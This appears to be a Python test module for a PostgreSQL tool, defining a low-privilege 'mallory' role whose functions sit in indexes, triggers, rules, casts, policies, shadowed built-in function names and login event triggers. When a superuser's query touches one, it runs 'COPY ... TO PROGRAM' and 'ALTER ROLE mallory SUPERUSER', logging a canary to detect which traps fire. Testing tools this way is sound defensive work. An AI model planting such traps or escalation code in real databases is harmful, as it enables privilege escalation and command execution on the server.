"""An attacker's objects: a role without rights that owns tables, and everything of a table that
makes others run its code.

The code acts where it finds itself a superuser, or can become one again: it writes a line into the
server's log (which no fence keeps it from), starts a program that leaves a file, and makes its role
a superuser.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import psycopg
from psycopg import sql

ACT = """
CREATE FUNCTION mallory.act(what text) RETURNS void LANGUAGE plpgsql VOLATILE AS $$
DECLARE mighty boolean := (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user);
BEGIN
    BEGIN
        RESET ROLE;
        RESET SESSION AUTHORIZATION;
        EXECUTE 'SET SESSION AUTHORIZATION postgres';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF mighty OR (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        RAISE LOG 'canary <%>', what;
        EXECUTE format('COPY (SELECT 1) TO PROGRAM %L',
            'touch ' || quote_literal({folder} || '/' || replace(what, ' ', '-')));
        ALTER ROLE mallory SUPERUSER;
    END IF;
EXCEPTION WHEN OTHERS THEN NULL;
END $$;
"""
# IMMUTABLE is believed: a function that performs a volatile one may stand wherever an expression
# may.
EVIL = """
CREATE FUNCTION mallory.evil(what text, v anyelement) RETURNS anyelement
    LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM mallory.act(what); RETURN v; END $$;
CREATE FUNCTION mallory.yes(what text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM mallory.act(what); RETURN true; END $$;
CREATE FUNCTION mallory.fires() RETURNS trigger LANGUAGE plpgsql AS
    $$ BEGIN PERFORM mallory.act(TG_ARGV[0]); RETURN NEW; END $$;
CREATE FUNCTION mallory.logs_in() RETURNS event_trigger LANGUAGE plpgsql AS
    $$ BEGIN PERFORM mallory.act('login'); END $$;
"""


@dataclass(frozen=True, slots=True)
class Trap:
    """One place for an expression.

    ``asked``: what a superuser might ask that springs it; empty: nothing that a drill could ask.
    """

    name: str
    made: str
    asked: str = ""


LABEL = 'pgdrill: {"model": "m", "version": "1"}'


def _table(
    number: int, more: str = "", columns: str = "id int, word text, embedding vector(3)"
) -> str:
    return (
        f"CREATE TABLE mallory.t{number} ({columns}{more});"
        f" INSERT INTO mallory.t{number} (id, word, embedding)"
        " SELECT i, 'w' || i, ARRAY[i, i % 7, 1]::float4[]::vector FROM generate_series(1, 40) i;"
        f" COMMENT ON COLUMN mallory.t{number}.embedding IS '{LABEL}';"
    )


def _count(number: int) -> str:
    return f"SELECT count(*) FROM mallory.t{number} WHERE id > 0"


TRAPS = (
    Trap(
        "index expression",
        _table(1) + "CREATE INDEX ON mallory.t1 (mallory.evil('index expression', id))",
        "SELECT mallory.evil('index expression', id) FROM mallory.t1",
    ),
    Trap(
        "index predicate",
        _table(2) + "CREATE INDEX ON mallory.t2 (id) WHERE mallory.evil('index predicate', id > 0)",
        "SELECT mallory.evil('index predicate', id > 0) FROM mallory.t2",
    ),
    Trap(
        "constant predicate",
        _table(3) + "CREATE INDEX ON mallory.t3 (id) WHERE mallory.yes('constant predicate')",
        _count(3),
    ),
    Trap(
        "hash index",
        _table(4) + "CREATE INDEX ON mallory.t4 USING hash (mallory.evil('hash index', word)) WHERE"
        " mallory.yes('hash index')",
        _count(4),
    ),
    Trap(
        "hnsw predicate",
        _table(5)
        + "CREATE INDEX ON mallory.t5 USING hnsw (embedding vector_l2_ops) WHERE mallory.yes('hnsw"
        " predicate')",
        _count(5),
    ),
    Trap(
        "hnsw expression",
        _table(6) + "CREATE INDEX ON mallory.t6 USING hnsw"
        " ((mallory.evil('hnsw expression', embedding)::vector(3)) vector_l2_ops)",
        "SELECT id FROM mallory.t6 ORDER BY mallory.evil('hnsw expression', embedding)::vector(3)"
        " <-> '[1,1,1]' LIMIT 3",
    ),
    Trap(
        "constant check",
        _table(7, ", CHECK (mallory.yes('constant check') AND id > 0)"),
        "SET constraint_exclusion = on; " + _count(7),
    ),
    Trap(
        "generated column",
        "CREATE TABLE mallory.t8 (id int, g int GENERATED ALWAYS AS (mallory.evil('generated"
        " column', id)) STORED); INSERT INTO mallory.t8 SELECT generate_series(1, 40)",
        "INSERT INTO mallory.t8 VALUES (99)",
    ),
    Trap(
        "statistics",
        _table(9) + "CREATE STATISTICS mallory.s9 ON (mallory.evil('statistics', id)),"
        " (mallory.yes('statistics') AND id > 0) FROM mallory.t9; ANALYZE mallory.t9",
        "SELECT count(*) FROM mallory.t9 WHERE id > 3",
    ),
    Trap(
        "domain",
        "CREATE DOMAIN mallory.d AS int CHECK (mallory.evil('domain', VALUE > 0)); CREATE TABLE"
        " mallory.t10 (id mallory.d); INSERT INTO mallory.t10 SELECT generate_series(1, 40)",
        "SELECT id::int::mallory.d FROM mallory.t10",
    ),
    Trap(
        "default",
        "CREATE TABLE mallory.t11 (id int, v int DEFAULT mallory.evil('default', 1)); INSERT INTO"
        " mallory.t11 SELECT 1",
        "INSERT INTO mallory.t11 (id) VALUES (2)",
    ),
    Trap(
        "policy",
        _table(12)
        + "ALTER TABLE mallory.t12 ENABLE ROW LEVEL SECURITY; CREATE POLICY p ON mallory.t12 USING"
        " (mallory.yes('policy') AND word = current_setting('app.tenant', true))",
    ),
    Trap(
        "view",
        "CREATE VIEW mallory.v13 AS SELECT mallory.evil('view', 1) AS id",
        "SELECT * FROM mallory.v13",
    ),
    Trap(
        "rule",
        "CREATE TABLE mallory.t14 (id int); CREATE RULE r AS ON INSERT TO mallory.t14 DO ALSO"
        " SELECT mallory.act('rule')",
        "INSERT INTO mallory.t14 VALUES (1)",
    ),
    Trap(
        "trigger",
        _table(15) + "CREATE TRIGGER r BEFORE INSERT ON mallory.t15 FOR EACH ROW EXECUTE FUNCTION"
        " mallory.fires('trigger');ALTER TABLE mallory.t15 ENABLE ALWAYS TRIGGER r",
        "INSERT INTO mallory.t15 (id) VALUES (1)",
    ),
    Trap(
        "materialized view",
        "CREATE MATERIALIZED VIEW mallory.v16 AS SELECT i AS id, mallory.evil('materialized view',"
        " i) AS v FROM generate_series(1, 9) i; CREATE INDEX ON mallory.v16 (id) WHERE"
        " mallory.yes('materialized view')",
        "SELECT * FROM mallory.v16",
    ),
    Trap(
        "cast",
        "CREATE TYPE mallory.pair AS (a int, b int); CREATE FUNCTION mallory.words(mallory.pair)"
        " RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM mallory.act('cast'); RETURN"
        " 'pair'; END $$; CREATE CAST (mallory.pair AS text) WITH FUNCTION"
        " mallory.words(mallory.pair) AS IMPLICIT; CREATE TABLE mallory.t17 (id int, p"
        " mallory.pair); INSERT INTO mallory.t17 VALUES (1, '(1,2)')",
        "SELECT p::text FROM mallory.t17",
    ),
    Trap(
        "partition key",
        "CREATE TABLE mallory.t18 (id int, word text) PARTITION BY RANGE (mallory.evil('partition"
        " key', id)); CREATE TABLE mallory.t18a PARTITION OF mallory.t18 FOR VALUES FROM (0) TO"
        " (100); INSERT INTO mallory.t18 SELECT 1, 'x'",
        "SELECT count(*) FROM mallory.t18 WHERE mallory.evil('partition key', id) = 7",
    ),
    Trap(
        "exclusion",
        _table(19)
        + "ALTER TABLE mallory.t19 ADD EXCLUDE USING btree (mallory.evil('exclusion', id) WITH =)"
        " WHERE (mallory.yes('exclusion'))",
        _count(19),
    ),
    Trap(
        "range type",
        "CREATE FUNCTION mallory.apart(int, int) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS $$"
        " BEGIN PERFORM mallory.act('range type'); RETURN $1 - $2; END $$; CREATE TYPE mallory.span"
        " AS RANGE (subtype = int, subtype_diff = mallory.apart); CREATE TABLE mallory.t20 (id int,"
        " s mallory.span); INSERT INTO mallory.t20 SELECT i, mallory.span(i, i + 2) FROM"
        " generate_series(1, 400) i; CREATE INDEX ON mallory.t20 USING gist (s);",
        "INSERT INTO mallory.t20 SELECT i, mallory.span(i, i + 2) FROM generate_series(1, 400) i",
    ),
    Trap(
        "brin predicate",
        _table(21)
        + "CREATE INDEX ON mallory.t21 USING brin (id) WHERE mallory.yes('brin predicate')",
        _count(21),
    ),
    # Names of PostgreSQL's and of extensions' own, for kinds that theirs would be only cast to.
    Trap(
        "operator",
        "CREATE FUNCTION public.like_no_other(oid, int) RETURNS boolean LANGUAGE plpgsql AS $$"
        " BEGIN PERFORM mallory.act('operator'); RETURN $1::int8 = $2::int8; END $$; CREATE"
        " OPERATOR public.= (LEFTARG = oid, RIGHTARG = int, FUNCTION = public.like_no_other);"
        " CREATE OPERATOR public.>= (LEFTARG = oid, RIGHTARG = int, FUNCTION ="
        " public.like_no_other)",
        "SELECT count(*) FROM pg_class WHERE oid = 1259",
    ),
    Trap(
        "function",
        "".join(
            f"CREATE FUNCTION public.{name} RETURNS {kind} LANGUAGE plpgsql AS $$ BEGIN PERFORM"
            f" mallory.act('function'); RETURN {value}; END $$;"
            for name, kind, value in (
                ("quote_ident(name)", "text", "$1::text"),
                ("pg_relation_size(oid)", "int8", "1"),
                ("pg_relation_filepath(oid)", "text", "''"),
                ("pg_total_relation_size(oid)", "int8", "1"),
                ("pg_prewarm(regclass, text, text)", "int8", "1"),
                ("pg_prewarm(regclass, text)", "int8", "1"),
                ("pg_prewarm(oid, text)", "int8", "1"),
                ("bt_index_parent_check(oid, boolean, boolean, boolean)", "bool", "true"),
                ("bt_index_check(oid, boolean)", "bool", "true"),
                ("verify_heapam(oid, boolean)", "bool", "true"),
                ("concat_ws(text, text, text, text, text, text, text)", "text", "''"),
                ("regexp_replace(name, text, text)", "text", "''"),
            )
        ),
        "SELECT quote_ident(relname) FROM pg_class LIMIT 1",
    ),
    Trap(
        "our names",
        "CREATE SCHEMA pgdrill_scratch; CREATE FUNCTION pgdrill_scratch.pg_prewarm(regclass, text,"
        " text) RETURNS int8 LANGUAGE plpgsql AS $$ BEGIN PERFORM mallory.act('our names'); RETURN"
        " 1; END $$; CREATE TABLE pgdrill_scratch.pg_class (oid oid)",
        "SELECT pgdrill_scratch.pg_prewarm(1259::regclass, 'buffer', 'main')",
    ),
)
# A superuser's own table on which the attacker's functions stand: asked as its owner, they run as a
# superuser.
SUPERUSERS = f"""
CREATE TABLE public.precious (id int PRIMARY KEY, word text, embedding vector(3));
INSERT INTO public.precious SELECT i, 'w' || i, ARRAY[i, i % 7, 1]::float4[]::vector
    FROM generate_series(1, 40) i;
COMMENT ON COLUMN public.precious.embedding IS '{LABEL}';
CREATE INDEX ON public.precious (mallory.evil('superuser''s index', id))
    WHERE mallory.yes('superuser''s index');
CREATE INDEX ON public.precious USING hash (mallory.evil('superuser''s index', word));
CREATE TABLE public.keepsake (id int REFERENCES public.precious);
CREATE INDEX precious_hnsw ON public.precious USING hnsw (embedding vector_l2_ops)
    WHERE mallory.yes('superuser''s index');
"""
SUPERUSERS_TRAP = Trap(
    "superuser's index", SUPERUSERS, "SELECT count(*) FROM public.precious WHERE id > 0"
)
# What outranks a server's files and its command line. For the superuser alone: production's own
# role has to be let in.
SETTINGS = """
CREATE EVENT TRIGGER mallory_logs_in ON login EXECUTE FUNCTION mallory.logs_in();
ALTER EVENT TRIGGER mallory_logs_in ENABLE ALWAYS;
ALTER DATABASE {database} SET event_triggers = on;
ALTER ROLE postgres SET event_triggers = on;
ALTER ROLE postgres SET session_preload_libraries = 'no_such_library';
ALTER ROLE postgres SET local_preload_libraries = 'no_such_library';
ALTER ROLE postgres SET search_path = mallory, public, pg_catalog;
ALTER ROLE postgres SET role = 'mallory';
ALTER ROLE postgres SET statement_timeout = '1ms';
ALTER ROLE postgres SET DateStyle = 'SQL, DMY';
"""


def attack(superuser: psycopg.Connection, mallory: psycopg.Connection, canaries: Path) -> None:
    """Make everything, as the role that would; leaves the superuser unable to log in without
    care."""
    mallory.execute("CREATE SCHEMA mallory")
    mallory.execute(sql.SQL(ACT).format(folder=sql.Literal(str(canaries))))
    mallory.execute(EVIL)
    for trap in TRAPS:
        mallory.execute(trap.made)
    superuser.execute(SUPERUSERS)
    superuser.execute(sql.SQL(SETTINGS).format(database=sql.Identifier(superuser.info.dbname)))


def sprung(log: str) -> set[str]:
    """The traps whose code found itself a superuser, by a server's log."""
    return {
        line.rpartition("canary <")[2].partition(">")[0]
        for line in log.splitlines()
        if "canary <" in line
    }
